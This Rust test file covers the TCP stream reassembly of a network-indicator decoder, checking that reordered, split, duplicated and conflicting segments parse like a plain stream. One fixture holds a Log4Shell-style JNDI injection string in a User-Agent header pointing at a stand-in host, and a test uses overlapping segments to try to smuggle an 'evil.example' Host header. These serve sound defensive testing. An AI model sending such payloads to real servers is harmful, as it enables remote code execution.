//! Streams compared with plain streams: whatever a receiver accepts must be parsed the same.

mod encapsulated;

use crate::engine::indicator::Where;
use crate::engine::packet::protocol::http::http2::tests as http2;
use crate::engine::packet::protocol::http::tests::bodies::{answers, uploads};
use crate::engine::packet::tests::{CLIENT, Recorder, SERVER, ipv4, raw_frame};
use crate::engine::packet::wire::transport::{ACK, FIN, SYN};
use crate::engine::packet::{Config, Counters, Decoder, Fault};
use proptest::prelude::*;

const PUSH: u8 = 8;

/// A segment of one of the two directions.
#[derive(Clone, Debug)]
pub(in crate::engine::packet) struct Part {
    to_server: bool,
    seq: u32,
    ack: u32,
    flags: u8,
    data: Vec<u8>,
}

/// The initial sequence numbers of both sides: they wrap early.
const START: [u32; 2] = [u32::MAX - 20, u32::MAX - 300];

impl Part {
    pub(in crate::engine::packet) fn data(to_server: bool, offset: usize, data: &[u8]) -> Part {
        let seq = START[usize::from(!to_server)].wrapping_add(1 + offset as u32);
        Part { to_server, seq, ack: 0, flags: PUSH, data: data.to_vec() }
    }

    /// The FIN of a side that has sent this many bytes.
    pub(in crate::engine::packet) fn end(to_server: bool, offset: usize) -> Part {
        Part { flags: FIN, ..Part::data(to_server, offset, &[]) }
    }

    pub(in crate::engine::packet) fn handshake() -> Vec<Part> {
        let part = |to_server, flags| Part {
            to_server,
            seq: START[usize::from(!to_server)],
            ack: if flags & ACK == 0 { 0 } else { START[0].wrapping_add(1) },
            flags,
            data: Vec::new(),
        };
        vec![part(true, SYN), part(false, SYN | ACK)]
    }

    pub(in crate::engine::packet) fn packet(&self, ports: (u16, u16)) -> Vec<u8> {
        let (src, dst) = if self.to_server { ports } else { (ports.1, ports.0) };
        let mut bytes = [src.to_be_bytes(), dst.to_be_bytes()].concat();
        bytes.extend(self.seq.to_be_bytes());
        bytes.extend(self.ack.to_be_bytes());
        bytes.extend([0x50, self.flags, 0, 0, 0, 0, 0, 0]);
        bytes.extend(&self.data);
        let (from, to) = if self.to_server { (CLIENT, SERVER) } else { (SERVER, CLIENT) };
        ipv4(from, to, 6, &bytes)
    }
}

/// With a normal decoder, and with one without fast paths.
fn decode_with(config: Config, port: u16, parts: &[Part]) -> (Recorder, Counters) {
    let (recorder, counters) = run(Decoder::new(config.clone()), port, parts);
    let (slow, counted) = run(Decoder::reference(config), port, parts);
    assert_eq!((&recorder.seen, &recorder.texts), (&slow.seen, &slow.texts));
    assert_eq!(counters, counted);
    (recorder, counters)
}

fn run(mut decoder: Decoder, port: u16, parts: &[Part]) -> (Recorder, Counters) {
    let mut recorder = Recorder { fingerprints: true, ..Recorder::default() };
    for (at, part) in parts.iter().enumerate() {
        let data = part.packet((40_000, port));
        decoder.frame(&raw_frame(at as u64 + 1, &data), &mut recorder);
    }
    decoder.finish(&mut recorder);
    assert!(decoder.hosts.streams.is_empty());
    (recorder, decoder.counters())
}

pub(in crate::engine::packet) fn decode(port: u16, parts: &[Part]) -> (Recorder, Counters) {
    decode_with(Config::default(), port, parts)
}

/// All of both directions, each in one segment.
fn plain(port: u16, client: &[u8], server: &[u8]) -> Vec<(Where, String)> {
    recorded(port, client, server).seen
}

fn recorded(port: u16, client: &[u8], server: &[u8]) -> Recorder {
    let mut parts = Part::handshake();
    parts.push(Part::data(true, 0, client));
    parts.push(Part::data(false, 0, server));
    parts.push(Part::end(true, client.len()));
    parts.push(Part::end(false, server.len()));
    decode(port, &parts).0
}

fn requests() -> Vec<u8> {
    let mut text = Vec::new();
    text.extend(b"GET /1 HTTP/1.1\r\nHost: a.example\r\nUser-Agent: x\r\n\r\n");
    text.extend(b"POST /2 HTTP/1.1\r\nHost: b.example\r\nContent-Length: 37\r\n\r\n");
    text.extend(b"GET /not HTTP/1.1\r\nHost: no.example\r\n");
    text.extend(b"PUT /3 HTTP/1.1\r\nHost: c.example\r\nTransfer-Encoding: chunked\r\n\r\n");
    text.extend(b"12;x=y\r\nGET / HTTP/1.1\r\n\r\n\r\n3\r\nabc\r\n0\r\nTrailer: x\r\n\r\n");
    text.extend(b"\r\nHEAD /4 HTTP/1.1\r\nHost: d.example\r\n\r\n");
    text.extend(b"CONNECT e.example:443 HTTP/1.1\r\nHost: e.example:443\r\n\r\n");
    text.extend(crate::engine::packet::protocol::tls::tests::hello(Some("f.example"), &["h2"]));
    text
}

fn responses() -> Vec<u8> {
    let mut text = Vec::new();
    text.extend(
        b"HTTP/1.1 302 Found\r\nLocation: http://g.example/x\r\nContent-Length: 3\r\n\r\nabc",
    );
    text.extend(b"HTTP/1.1 100 Continue\r\n\r\n");
    text.extend(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n");
    text.extend(b"2C\nHTTP/1.1 302 Found\r\nLocation: http://no/\r\n\r\n\r\n0\r\n\r\n");
    text.extend(b"HTTP/1.1 304 Not Modified\r\nContent-Length: 99\r\n\r\n");
    text.extend(b"HTTP/1.1 200 OK\r\nContent-Length: 99\r\nLocation: http://h.example\r\n\r\n");
    text.extend(b"HTTP/1.1 200 Established\r\n\r\n");
    text.extend(crate::engine::packet::protocol::tls::tests::server_flight());
    text
}

fn questions() -> Vec<u8> {
    let message = crate::engine::packet::payload::dns::tests::sample();
    let framed = [&(message.len() as u16).to_be_bytes()[..], &message].concat();
    framed.repeat(4)
}

/// Requests that only servers accept, after the headers of two load balancers.
fn lax_requests() -> Vec<u8> {
    let mut text = crate::engine::packet::protocol::proxy::tests::v4(b"\x02\0\x09p.example");
    text.extend(b"PROXY TCP6 2001:db8::5 2001:db8::9 5000 80\r\n");
    text.extend(b"\r\n\r\nGET \t /1  HTTP/1.1\nHost:\n a.example\nX-Url: http://b.example/\n\n");
    text.extend(b"get http://c.example/2?u=http%3A%2F%2Fd.example HTTP/1.1\r\nHost: a.example\r\n");
    text.extend(
        b"Forwarded: for=\"[2001:db8::7]:99\";\r\n\thost=e.example\r\nFrom: who@f.example\r\n",
    );
    text.extend(b"User-Agent: ${jndi:ldap://g.example/x}\r\nReferer: http://h.example/\r\n\r\n");
    text.extend(b"\n \t\r\nX /3 http/1.0\r\nHost : a.example\r\n\r\n");
    text
}

fn lax_responses() -> Vec<u8> {
    let mut text =
        b"\r\nHTTP/1.1  302\r\nLocation: //a.example/x\r\nContent-Length: 0\r\n".to_vec();
    text.extend(b"Set-Cookie: a=b;\r\n Domain=.b.example\r\nLink: <https://c.example>\r\n\r\n");
    text.extend(b"http/1.1 200 OK\nContent-Location: http://d.example/\nContent-Length: 0\n\n");
    text.extend(
        b"HTTP/1.1 204 None\r\nVia: 1.1 e.example\r\nAlt-Svc: h3=\"f.example:443\"\r\n\r\n",
    );
    text
}

/// Both directions of a connection, and the server's port.
fn conversations() -> Vec<(u16, Vec<u8>, Vec<u8>)> {
    vec![
        (8080, requests(), responses()),
        (
            443,
            crate::engine::packet::protocol::tls::tests::hello(Some("a.example"), &["h2"]),
            responses(),
        ),
        (8443, crate::engine::packet::protocol::tls::tests::split_hello("a.example"), vec![]),
        (53, questions(), questions()),
        (5300, questions(), vec![]),
        (2525, crate::engine::packet::protocol::smtp::tests::client(), vec![]),
        (
            2222,
            crate::engine::packet::protocol::ssh::tests::client(),
            crate::engine::packet::protocol::ssh::tests::server(),
        ),
        (8081, uploads(), answers()),
        (8082, http2::client(), http2::server()),
        (8083, http2::upgrading().0, http2::upgrading().1),
        (
            1100,
            crate::engine::packet::protocol::pop3::tests::client(),
            crate::engine::packet::protocol::pop3::tests::server(),
        ),
        (
            1430,
            crate::engine::packet::protocol::imap::tests::client(),
            crate::engine::packet::protocol::imap::tests::server(),
        ),
        (
            21,
            crate::engine::packet::protocol::ftp::tests::client(),
            crate::engine::packet::protocol::ftp::tests::server(),
        ),
        (601, crate::engine::packet::protocol::syslog::tests::stream(), vec![]),
        // The server's side of these can't be parsed without the client's.
        (
            4450,
            crate::engine::packet::protocol::smb::tests::client(),
            crate::engine::packet::protocol::smb::tests::server(),
        ),
        (
            1080,
            crate::engine::packet::protocol::socks::tests::client(),
            crate::engine::packet::protocol::socks::tests::server(),
        ),
        (8084, lax_requests(), lax_responses()),
        (
            53,
            [crate::engine::packet::protocol::proxy::tests::v4(b""), questions()].concat(),
            questions(),
        ),
    ]
}

#[test]
fn a_client_that_ends_before_the_answer_is_remembered() {
    let requests = b"HEAD /1 HTTP/1.1\r\nHost: a.example\r\n\r\n\
        GET /2.bin HTTP/1.1\r\nHost: a.example\r\n\r\n";
    let answers = b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n\
        HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nabc";
    for has_handshake in [true, false] {
        let mut parts = if has_handshake { Part::handshake() } else { vec![] };
        parts.push(Part { flags: FIN | PUSH, ..Part::data(true, 0, requests) });
        parts.push(Part::data(false, 0, answers));
        parts.push(Part::end(false, answers.len()));
        let (recorder, counters) = decode(80, &parts);
        let files = recorder.places.iter().filter_map(|place| match &place.protocol {
            Some(crate::engine::indicator::Protocol::File(file)) => {
                Some((file.url.clone().unwrap_or_default(), file.size, file.is_whole))
            }
            _ => None,
        });
        let hashed: Vec<_> = files.filter(|(_, size, _)| size.is_some()).collect();
        assert!(!hashed.is_empty(), "{has_handshake}");
        for file in hashed {
            assert_eq!(file, ("http://a.example/2.bin".into(), Some(3), Some(true)));
        }
        assert_eq!(counters.fault(Fault::StreamGap), 0);
    }
}

#[test]
fn everything_is_found_in_plain_streams() {
    let seen = plain(8080, &requests(), &responses());
    let at = |at: Where| -> Vec<&str> {
        seen.iter().filter(|(place, _)| *place == at).map(|(_, text)| text.as_str()).collect()
    };
    let hosts = ["a.example", "b.example", "c.example", "d.example", "e.example"];
    assert_eq!(at(Where::HttpHost), hosts);
    assert_eq!(at(Where::HttpUrl).len(), 6);
    assert!(at(Where::HttpUrl).contains(&"http://g.example/x"));
    assert_eq!(at(Where::TlsSni), ["f.example"]);
    assert_eq!(at(Where::TlsCert).last(), Some(&"mail.g.example"));
    assert_eq!((at(Where::TlsJa3).len(), at(Where::TlsJa4).len()), (1, 1));
    assert_eq!(at(Where::TlsJa3s).len(), 1);
    let ssh = plain(
        22,
        &crate::engine::packet::protocol::ssh::tests::client(),
        &crate::engine::packet::protocol::ssh::tests::server(),
    );
    let hassh: Vec<_> = ssh.iter().filter(|(at, _)| *at == Where::SshHassh).collect();
    assert_eq!((hassh.len(), ssh.len()), (2, 4));
    assert_ne!(hassh[0], hassh[1]);
    let lax = plain(8084, &lax_requests(), &lax_responses());
    let count = |at: Where| lax.iter().filter(|(place, _)| *place == at).count();
    assert_eq!((count(Where::ProxySrc), count(Where::ProxyAuthority)), (2, 1));
    assert_eq!((count(Where::HttpHost), count(Where::HttpUrl)), (3, 4));
    assert_eq!((count(Where::HttpXff), count(Where::UrlHost)), (3, 2));
    assert_eq!(plain(53, &questions(), &[]).len(), 12);
    assert_eq!(plain(5300, &questions(), &[]).len(), 12);
    assert_eq!(
        plain(443, &crate::engine::packet::protocol::tls::tests::split_hello("a.example"), &[])[0]
            .1,
        "a.example"
    );
}

#[test]
fn a_repeated_request_is_reported_once() {
    let request = b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n";
    let mut parts = Part::handshake();
    parts.extend(vec![Part::data(true, 0, request); 3]);
    let (recorder, _) = decode(80, &parts);
    assert_eq!(recorder.at(Where::HttpHost), ["a.example"]);
    // Also without a handshake, and after the stream was classified as unknown.
    let (recorder, _) = decode(80, &parts[2..]);
    assert_eq!(recorder.at(Where::HttpHost), ["a.example"]);
    let mut parts = vec![Part::data(true, 0, b"220 ready\r\n")];
    parts.extend(vec![Part::data(true, 11, request); 3]);
    let (recorder, _) = decode(80, &parts);
    assert_eq!(recorder.at(Where::HttpHost), ["a.example"]);
}

#[test]
fn the_completing_packet_is_reported() {
    let mut parts = Part::handshake();
    parts.push(Part::data(true, 20, b": a.example\r\n\r\n"));
    parts.push(Part::data(true, 0, b"GET / HTTP/1.1\r\nHost"));
    let (recorder, counters) = decode(80, &parts);
    assert_eq!(recorder.at(Where::HttpHost), ["a.example"]);
    assert_eq!(recorder.places[0].number, 4);
    assert_eq!(counters.faults().count(), 0);
}

#[test]
fn a_gap_is_marked_and_gone_over() {
    // Inside a body, only its file is lost.
    let head = b"POST / HTTP/1.1\r\nHost: a.example\r\nContent-Length: 5000\r\n\r\n";
    let next = b"GET /2 HTTP/1.1\r\nHost: b.example\r\n\r\n";
    let mut parts = Part::handshake();
    parts.push(Part::data(true, 0, head));
    parts.push(Part::data(true, head.len() + 4000, &[b'x'; 1000]));
    parts.push(Part::data(true, head.len() + 5000, next));
    let (recorder, counters) = decode(80, &parts);
    assert_eq!(recorder.at(Where::HttpHost), ["a.example", "b.example"]);
    assert!(recorder.at(Where::FileHash).is_empty());
    assert_eq!(counters.faults().collect::<Vec<_>>(), [(Fault::StreamGap, 1)]);
    // In a head, its available part is parsed, and later heads are found again.
    let mut parts = Part::handshake();
    parts.push(Part::data(true, 0, b"GET /1 HTTP/1.1\r\nHost: a.example\r\nX"));
    parts.push(Part::data(true, 90, next));
    let (recorder, counters) = decode(80, &parts);
    assert_eq!(recorder.at(Where::HttpHost), ["a.example", "b.example"]);
    assert_eq!(counters.fault(Fault::StreamGap), 1);
    assert_eq!(counters.fault(Fault::SplitHttp), 1);
    // What the receiver has acknowledged will not arrive any more.
    for _ in 0..20 {
        let ack = START[0].wrapping_add(1 + 90);
        parts.push(Part { to_server: false, seq: 0, ack, flags: ACK, data: vec![] });
    }
    parts.push(Part::data(true, 90 + next.len(), next));
    let (recorder, _) = decode(80, &parts);
    assert_eq!(recorder.at(Where::HttpHost), ["a.example", "b.example", "b.example"]);
    assert_eq!(recorder.places.last().map(|place| place.number), Some(parts.len() as u64));
}

#[test]
fn a_hole_is_not_waited_for_without_end() {
    let next = b"GET /2 HTTP/1.1\r\nHost: b.example\r\n\r\n";
    let mut parts = Part::handshake();
    for at in 0..70 {
        parts.push(Part::data(true, 1000 + at * next.len(), next));
    }
    let mut decoder = Decoder::new(Config::default());
    let mut recorder = Recorder::default();
    for part in &parts {
        let data = part.packet((1, 80));
        decoder.frame(&raw_frame(1, &data), &mut recorder);
    }
    assert_eq!(recorder.at(Where::HttpHost).len(), 70);
    assert_eq!(decoder.counters().fault(Fault::StreamGap), 1);
}

#[test]
fn conflicting_bytes_are_counted_and_lose() {
    let request = b"GET / HTTP/1.1\r\nHost: good.example\r\n\r\n";
    let mut parts = Part::handshake();
    parts.push(Part::data(true, 22, &request[22..]));
    parts.push(Part::data(true, 16, b"Host: evil.example\r\n\r\n"));
    parts.push(Part::data(true, 0, &request[..22]));
    let (recorder, counters) = decode(80, &parts);
    assert_eq!(recorder.at(Where::HttpHost), ["good.example"]);
    assert_eq!(counters.fault(Fault::StreamConflict), 1);
    let mut parts = Part::handshake();
    parts.push(Part::data(true, 0, &request[..26]));
    parts.push(Part::data(true, 22, b"evil"));
    parts.push(Part::data(true, 26, &request[26..]));
    let (recorder, counters) = decode(80, &parts);
    assert_eq!(recorder.at(Where::HttpHost), ["good.example"]);
    assert_eq!(counters.fault(Fault::StreamConflict), 1);
}

#[test]
fn a_new_connection_on_the_same_ports() {
    let request = b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n";
    let mut parts = Part::handshake();
    parts.push(Part::data(true, 0, request));
    // A repeated handshake changes nothing.
    parts.extend(Part::handshake());
    parts.push(Part::data(true, 0, request));
    // Nor does another SYN alone; with its answer it is another connection.
    let shifted = |part: &Part| Part {
        seq: part.seq.wrapping_add(1_000_000),
        ack: part.ack.wrapping_add(if part.flags & ACK == 0 { 0 } else { 1_000_000 }),
        ..part.clone()
    };
    let again: Vec<Part> = Part::handshake().iter().map(shifted).collect();
    parts.push(again[0].clone());
    parts.push(Part::data(true, 0, request));
    assert_eq!(decode(80, &parts).0.at(Where::HttpHost).len(), 1);
    parts.push(again[1].clone());
    parts.push(shifted(&Part::data(true, 0, request)));
    assert_eq!(decode(80, &parts).0.at(Where::HttpHost).len(), 2);
}

#[test]
fn memory_is_bounded_and_other_flows_keep_what_they_have() {
    let config = Config { max_stream_bytes: 200_000, ..Config::default() };
    let mut decoder = Decoder::new(config);
    let mut recorder = Recorder::default();
    for port in 1..2000 {
        let mut parts = Part::handshake();
        parts.push(Part::data(true, 0, &[b"GET /", &[b'x'; 900][..]].concat()));
        parts.push(Part::data(true, 5000, b"far"));
        for part in parts {
            let data = part.packet((port, 80));
            decoder.frame(&raw_frame(1, &data), &mut recorder);
            assert!(decoder.hosts.streams.used() <= 200_000, "{port}");
        }
        let whole = Part::data(true, 0, b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n");
        let data = whole.packet((port, 8080));
        decoder.frame(&raw_frame(1, &data), &mut recorder);
    }
    assert_eq!(recorder.at(Where::HttpHost).len(), 1999);
    // A flow whose slot was taken away continues, without knowledge of its protocol.
    let again = Part::data(true, 2000, b"GET / HTTP/1.1\r\nHost: b.example\r\n\r\n");
    let data = again.packet((1, 80));
    let frame = raw_frame(1, &data);
    decoder.frame(&frame, &mut recorder);
    decoder.frame(&frame, &mut recorder);
    assert_eq!(recorder.at(Where::HttpHost).len(), 2000);
    assert!(decoder.counters().fault(Fault::StreamEvicted) > 1000);
}

/// What a sender and the network do to a direction.
#[derive(Clone, Debug)]
struct Treatment {
    cuts: Vec<prop::sample::Index>,
    again: Vec<(prop::sample::Index, prop::sample::Index)>,
    swaps: Vec<(prop::sample::Index, prop::sample::Index)>,
    lies: bool,
}

fn treatment() -> impl Strategy<Value = Treatment> {
    let index = any::<prop::sample::Index>;
    (
        proptest::collection::vec(index(), 0..24),
        proptest::collection::vec((index(), index()), 0..12),
        proptest::collection::vec((index(), index()), 0..24),
        any::<bool>(),
    )
        .prop_map(|(cuts, again, swaps, lies)| Treatment { cuts, again, swaps, lies })
}

impl Treatment {
    fn apply(&self, to_server: bool, stream: &[u8]) -> Vec<Part> {
        if stream.is_empty() {
            return Vec::new();
        }
        let mut cuts: Vec<usize> = self.cuts.iter().map(|cut| cut.index(stream.len())).collect();
        cuts.extend([0, stream.len()]);
        cuts.sort_unstable();
        cuts.dedup();
        let mut ranges: Vec<(usize, usize)> = cuts.windows(2).map(|w| (w[0], w[1])).collect();
        for (from, to) in &self.again {
            let (from, to) = (from.index(stream.len()), to.index(stream.len()));
            ranges.push((from.min(to), from.max(to) + 1));
        }
        for (one, other) in &self.swaps {
            let count = ranges.len();
            ranges.swap(one.index(count), other.index(count));
        }
        let mut parts = Vec::new();
        for (from, to) in ranges {
            parts.push(Part::data(to_server, from, &stream[from..to]));
            if self.lies {
                parts.push(Part::data(to_server, from, &vec![b'!'; to - from]));
            }
        }
        parts
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn any_delivery_reads_like_the_plain_stream(
        which in 0..18_usize,
        client in treatment(),
        server in treatment(),
        interleave in proptest::collection::vec(any::<bool>(), 0..40),
    ) {
        let (port, to_server, to_client) = conversations().swap_remove(which);
        let want = recorded(port, &to_server, &to_client);
        let mut parts = Part::handshake();
        let mut client = client.apply(true, &to_server).into_iter();
        let mut server = server.apply(false, &to_client).into_iter();
        // A server responds to what it has received: if it matters, afterwards.
        if !matches!(which, 0 | 7..=10 | 14..=16) {
            for is_client in interleave {
                parts.extend(if is_client { client.next() } else { server.next() });
            }
        }
        parts.extend(client);
        parts.extend(server);
        parts.push(Part::end(true, to_server.len()));
        parts.push(Part::end(false, to_client.len()));
        let (recorder, counters) = decode(port, &parts);
        let by_side = |seen: &[(Where, String)]| {
            let is_answer = |at: &Where| matches!(at, Where::TlsCert | Where::TlsJa3s | Where::SshHostKey);
            let (a, b): (Vec<_>, Vec<_>) =
                seen.iter().cloned().partition(|(at, _)| is_answer(at));
            let (mut a, mut b) = (a, b);
            a.sort();
            b.sort();
            (a, b)
        };
        prop_assert_eq!(by_side(&recorder.seen), by_side(&want.seen));
        prop_assert!(recorder.texts == want.texts);
        prop_assert_eq!(counters.fault(Fault::StreamGap), 0);
        prop_assert_eq!(counters.fault(Fault::StreamEvicted), 0);
    }

    #[test]
    fn changed_conversations_do_not_panic(
        which in 0..18_usize,
        changes in proptest::collection::vec(
            (any::<bool>(), any::<prop::sample::Index>(), any::<u8>(), 0..4_u8), 0..8),
        pieces in proptest::collection::vec((any::<bool>(), 1..200_usize), 1..60),
    ) {
        let (port, client, server) = conversations().swap_remove(which);
        let mut sides = [server, client];
        for (to_server, at, value, how) in changes {
            let side = &mut sides[usize::from(to_server)];
            if side.is_empty() {
                continue;
            }
            let at = at.index(side.len());
            match how {
                0 => side[at] = value,
                1 => side[at] ^= 1 << (value & 7),
                2 => drop(side.drain(at..(at + usize::from(value)).min(side.len()))),
                _ => {
                    let again = side[at..(at + usize::from(value)).min(side.len())].to_vec();
                    side.splice(at..at, again);
                }
            }
        }
        let mut parts = Part::handshake();
        let mut done = [0_usize; 2];
        let rest = [(true, usize::MAX), (false, usize::MAX)];
        for (to_server, length) in pieces.into_iter().chain(rest) {
            let side = usize::from(to_server);
            let end = done[side].saturating_add(length).min(sides[side].len());
            if done[side] < end {
                parts.push(Part::data(to_server, done[side], &sides[side][done[side]..end]));
            }
            done[side] = end;
        }
        parts.push(Part { flags: FIN, ..Part::data(true, sides[1].len(), &[]) });
        decode_with(Config { max_stream_bytes: 100_000, ..Config::default() }, port, &parts);
    }

    #[test]
    fn no_segments_panic_and_memory_is_kept(
        parts in proptest::collection::vec(
            (any::<bool>(), 0..3_000_000_u32, any::<u32>(), any::<u8>(), 0..9_usize, any::<bool>()),
            0..60,
        ),
        port in prop::sample::select(vec![53_u16, 80, 443]),
        chance in proptest::collection::vec(any::<u8>(), 0..200),
    ) {
        let streams = [requests(), responses(), questions(), crate::engine::packet::protocol::smb::tests::client(), crate::engine::packet::protocol::smb::tests::server(), crate::engine::packet::protocol::ftp::tests::client(), chance, uploads(), answers()];
        let parts: Vec<Part> = parts
            .into_iter()
            .map(|(to_server, seq, ack, flags, which, is_near)| {
                let mut data = streams.get(which).cloned().unwrap_or_default();
                data.truncate(1 + seq as usize % 700);
                let seq = if is_near { seq % 2000 } else { seq.wrapping_mul(2000) };
                Part { to_server, seq, ack, flags, data }
            })
            .collect();
        let config = Config { max_stream_bytes: 20_000, ..Config::default() };
        decode_with(config, port, &parts);
    }
}
